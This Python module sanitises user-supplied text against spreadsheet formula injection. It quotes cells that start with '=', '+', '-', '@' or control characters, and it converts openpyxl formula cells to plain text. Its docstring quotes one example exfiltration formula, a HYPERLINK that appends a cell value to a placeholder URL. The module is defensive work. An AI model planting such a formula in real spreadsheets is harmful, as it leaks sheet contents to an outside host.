"""Text that came from input, made safe for spreadsheets: never a formula.

Entity, country and scenario names come from files a user may not have written. A
spreadsheet program reads a CSV cell that starts with ``=``, ``+``, ``-``, ``@``, a
tab or a carriage return as a formula (``=HYPERLINK("http://...?"&A1)`` leaks the
sheet), and openpyxl stores any string that starts with ``=`` as a formula. So:

- :func:`neutral_text` puts a ``'`` before such a string (the usual CSV-injection
  defence; spreadsheet programs hide the quote); strings that read as a number
  (``-0.5``) and every number are left alone;
- :func:`neutral_frame` does that to the text cells and column names of a table
  before it is written as CSV;
- :func:`text_cells_only` turns every formula cell of an openpyxl workbook back
  into a text cell before it is saved (fundsim writes no formulas of its own);
- :func:`plain_label` escapes ``$`` for a matplotlib text that parses mathtext (the
  fundsim figure style turns mathtext off: ``text.parse_math = False``).
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    import pandas as pd

#: First characters that make a spreadsheet read a cell as a formula.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def neutral_text(value: str) -> str:
    """``value`` with a leading ``'`` if a spreadsheet would read it as a formula."""
    if value.startswith(FORMULA_START) and not _is_number(value):
        return "'" + value
    return value


def _neutral(value: Any) -> Any:
    return neutral_text(value) if isinstance(value, str) else value


def neutral_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells and column names are neutralised (numbers,
    booleans and missing values untouched); ``frame`` itself if nothing needs it."""
    from pandas.api.types import is_object_dtype, is_string_dtype

    text_columns = [
        c for c in frame.columns if is_object_dtype(frame[c]) or is_string_dtype(frame[c])
    ]
    renamed = {
        c: neutral_text(c) for c in frame.columns if isinstance(c, str) and neutral_text(c) != c
    }
    if not text_columns and not renamed:
        return frame
    out = frame.copy()
    for c in text_columns:
        out[c] = out[c].map(_neutral)
    return out.rename(columns=renamed) if renamed else out


def plain_label(text: str) -> str:
    """``text`` for a matplotlib label that parses mathtext: every ``$`` escaped, so a
    name such as ``UNDP $\\foo{$`` is drawn as written instead of failing to parse."""
    return text.replace("$", r"\$")


def text_cells_only(workbook: Any) -> int:
    """Make every formula cell of an openpyxl ``workbook`` a text cell (its value is kept
    as the text it was); returns how many were changed."""
    changed = 0
    for ws in workbook.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.data_type = "s"
                    changed += 1
    return changed
